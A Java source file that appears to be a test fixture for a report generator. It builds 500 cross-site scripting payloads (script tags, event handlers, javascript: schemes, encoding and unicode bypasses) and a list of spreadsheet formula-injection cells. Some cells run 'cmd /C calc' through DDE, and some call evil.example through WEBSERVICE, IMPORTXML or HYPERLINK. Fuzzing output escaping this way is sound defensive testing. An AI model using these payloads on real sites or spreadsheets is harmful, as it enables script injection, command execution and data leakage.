package io.cspsync.report.page;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Texts that want to be more than text in a page, by family.
 */
public final class Payloads {

	private static final List<String> ELEMENTS = List.of("script", "svg", "img", "iframe", "object", "embed", "video",
			"audio", "math", "form", "input", "button", "select", "marquee", "details", "template", "style", "link",
			"meta", "base", "body", "isindex", "frameset", "noscript", "textarea", "title", "xmp", "plaintext", "table",
			"a", "portal", "dialog", "custom-element", "foreignObject");

	private static final List<String> HANDLERS = List.of("onload", "onerror", "onclick", "onfocus", "onmouseover",
			"ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onwheel", "onbeforeprint", "onhashchange");

	private static final List<String> BREAKS = List.of("\">", "'>", "\" ", "' ", ">", "`>", "\"/>", "--></p>", "</td>",
			"</table>", "</style>", "</title>", "</svg>", "</details>", "]]>", "</text></g></svg>", "/*", "*/", "}",
			"\\\">");

	private static final List<String> SCHEMES = List.of("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:",
			"\u0001javascript:", "javascript&colon;", "data:text/html,", "vbscript:", "//evil.example/",
			"https://evil.example/", "jar:https://evil.example!/", "&#106;avascript:", "blob:", "file:///etc/passwd",
			"mailto:x?body=");

	private static final List<String> ODD = List.of("<!-- ", "--!>", "<!--><script>alert(%d)</script>-->",
			"<![CDATA[<script>alert(%d)</script>]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>",
			"<!ENTITY x SYSTEM 'f'>", "&lt;script&gt;alert(%d)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script",
			"&ltscript&gt", "&amp;lt;b&amp;gt;", "&NotEqualTilde;&lt", "\uff1cscript\uff1ealert(%d)",
			"\u02c2script\u02c3", "\u2039script\u203a", "\ufe64script\ufe65", "+ADw-script+AD4-alert(%d)",
			"\u0000<script>alert(%d)</script>", "<scr\u0000ipt>alert(%d)</script>", "<\u0000script>", "\u202e<script>",
			"\u2066<b>\u2069", "\ufeff<script>alert(%d)</script>", "\u2028<script>alert(%d)</script>\u2029",
			"\u0085<script>", "\ud83d<script>", "\udc00<b>", "\ufffe<b>", "\uffff<b>",
			"\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007", "{{7*7}}", "${7*7}", "#{7*7}", "<%%= 7*7 %%>",
			"expression(alert(%d))", "@import 'https://evil.example/x.css';", "url(https://evil.example/%d)",
			"\\3c script\\3e", "%%3Cscript%%3E", "\r\n<script>\r\nalert(%d)\r\n</script>", "\\(\\frac{1}{%d}\\)",
			"**bold** [x](javascript:alert(%d))", "<a href=\"https://evil.example\">x</a>", "a\tb", "line\nbreak");

	private static final List<String> FORMULAS = List.of("=1+%d", "=HYPERLINK(\"https://evil.example/%d\",\"x\")",
			"+1+cmd|' /C calc'!A%d", "-2+3+cmd|' /C calc'!A%d", "@SUM(1+%d)", "\t=1+%d", "\r=1+%d", "\n=1+%d",
			"\uff1d1+%d", "\uff0b1+cmd%d", "\uff0d1+cmd%d", "\uff20SUM(%d)", "'=1+%d", "=cmd|'/C notepad'!'A%d'",
			"=IMPORTXML(CONCAT(\"https://evil.example/%d\"))", "=WEBSERVICE(\"https://evil.example/%d\")", "+SUM(%d)",
			"-SUM(%d)", "@A%d", "=DDE(\"cmd\";\"/C calc\";\"%d\")");

	private Payloads() {
	}

	/** Five hundred for pages, each of its own. */
	public static List<String> html() {
		Set<String> all = new LinkedHashSet<>();
		ODD.forEach((odd) -> all.add(odd.formatted(all.size())));
		for (String element : ELEMENTS) {
			all.add("<%s>alert(%d)</%s>".formatted(element, all.size(), element));
			all.add("<%s/src=x onerror=alert(%d)>".formatted(element.toUpperCase(), all.size()));
			all.add("\"><%s autofocus onfocus=alert(%d) x=\"".formatted(element, all.size()));
			all.add("</%s><%s srcdoc='x' data-n=%d>".formatted(element, element, all.size()));
		}
		for (String handler : HANDLERS) {
			all.add("\" %s=\"alert(%d)".formatted(handler, all.size()));
			all.add("' %s='alert(%d)".formatted(handler, all.size()));
			all.add("x %s=alert(%d) ".formatted(handler, all.size()));
			all.add("<svg %s=alert(%d)>".formatted(handler, all.size()));
		}
		for (String breaks : BREAKS) {
			for (String after : List.of("<script>alert(%d)</script>", "<img src=x onerror=alert(%d)>",
					"<svg onload=alert(%d)>", "style=\"background:url(//evil.example/%d)\"")) {
				all.add(breaks + after.formatted(all.size()));
			}
		}
		for (String scheme : SCHEMES) {
			for (String around : List.of("%s", "<a href=\"%s\">", "<iframe src='%s'>", "<form action=%s>", "url(%s)",
					"\" href=\"%s")) {
				all.add(around.formatted(scheme + "alert(" + all.size() + ")"));
			}
		}
		for (int number = 0; all.size() < 500; number++) {
			all.add("<p id=main class='verdict good'>%s</p><meta http-equiv=refresh content=%d>".formatted("x",
					number));
		}
		return List.copyOf(all).subList(0, 500);
	}

	/** Cells that a spreadsheet would carry out. */
	public static List<String> formulas() {
		List<String> all = new ArrayList<>();
		FORMULAS.forEach((formula) -> all.add(formula.formatted(all.size())));
		return all;
	}

}
